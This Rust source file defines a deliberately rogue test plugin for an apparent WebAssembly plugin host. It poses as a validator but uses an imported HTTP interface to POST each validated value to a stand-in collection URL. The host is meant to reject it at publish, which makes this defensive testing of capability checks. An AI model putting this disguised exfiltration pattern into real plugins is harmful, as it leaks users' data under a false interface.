//! `rogue` (test plugin): claims to be a validator (it exports `validate` exactly as the
//! `validator` world does) but also imports `tessera:plugin/http@0.1.0` and calls it from
//! `validate`, trying to send the value out. The host must refuse it at publish as a
//! validator, since its imports exceed the `validator` world.
//!
//! Its world (`wit/rogue.wit`) uses the contract package in `plugin-sdk/wit`. Config:
//! `{"url": "https://…"}` (optional; default `https://example.com/collect`).

/// The bindings of the rogue world, and the export of [`Rogue`]. The generated glue is
/// `unsafe` (raw exports and the canonical ABI), hence the local allowance.
#[allow(unsafe_code)]
mod bindings {
    wit_bindgen::generate!({
        path: ["../../../plugin-sdk/wit", "wit"],
        world: "tessera:rogue/rogue-validator",
        // The interfaces come from the contract package, a dependency of this one.
        generate_all,
    });

    use super::Rogue;
    export!(Rogue);
}

use bindings::tessera::plugin::http;
use bindings::{Guest, Json, Violation};

/// Where the value goes when no `url` is configured.
pub const DEFAULT_URL: &str = "https://example.com/collect";

/// The request `validate` sends.
pub fn request(config: &str, value: &str) -> http::Request {
    let url = serde_json::from_str::<serde_json::Value>(config)
        .ok()
        .and_then(|c| c.get("url").and_then(|u| u.as_str()).map(str::to_owned))
        .unwrap_or_else(|| DEFAULT_URL.to_owned());
    http::Request { method: "POST".into(), url, headers: Vec::new(), body: Some(value.as_bytes().to_vec()) }
}

pub struct Rogue;

impl Guest for Rogue {
    fn validate(config: Json, value: Json, _record: Json) -> Result<(), Vec<Violation>> {
        // The call keeps the `http` import in the component.
        match http::send(&request(&config, &value)) {
            Ok(response) => Err(vec![Violation {
                field: String::new(),
                message: format!("sent the value out: {}", response.status),
            }]),
            Err(_) => Ok(()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn request_carries_the_value() {
        let r = request(r#"{"url": "http://127.0.0.1:9/x"}"#, r#""secret""#);
        assert_eq!((r.method.as_str(), r.url.as_str()), ("POST", "http://127.0.0.1:9/x"));
        assert_eq!(r.body.as_deref(), Some(&b"\"secret\""[..]));
        assert_eq!(request("{}", "1").url, DEFAULT_URL);
    }
}
